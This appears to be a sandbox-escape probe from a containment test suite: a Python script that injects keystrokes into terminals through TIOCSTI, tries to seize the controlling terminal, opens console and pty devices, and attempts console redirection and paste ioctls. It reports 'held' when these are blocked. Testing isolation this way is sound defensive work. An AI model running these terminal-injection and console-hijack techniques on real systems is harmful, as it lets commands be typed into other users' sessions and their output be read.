"""Types on the terminal of whoever looks on, or takes it for itself."""

import fcntl
import glob
import os

from attacker import attempt, over

TIOCSTI, TIOCSCTTY, TIOCCONS, TIOCLINUX = 0x5412, 0x540E, 0x541D, 0x541C
os.setsid() if os.getpid() != os.getsid(0) else None
for descriptor in (0, 1, 2):
    for byte in b"id\n":
        attempt(f"typed on {descriptor}", fcntl.ioctl, descriptor, TIOCSTI, bytes([byte]))
    attempt(f"took terminal {descriptor}", fcntl.ioctl, descriptor, TIOCSCTTY, 1)
for path in ("/dev/console", "/dev/tty", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", *glob.glob("/dev/pts/[0-9]*")):
    attempt(f"opened {path}", os.open, path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
try:
    # One of its own is no harm; that it shows what others write on the console would be.
    own = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
    attempt("took over the console", fcntl.ioctl, own, TIOCCONS)
    attempt("pasted", fcntl.ioctl, own, TIOCLINUX, b"\3")
except OSError as error:
    print("held: a terminal -", error)
over()
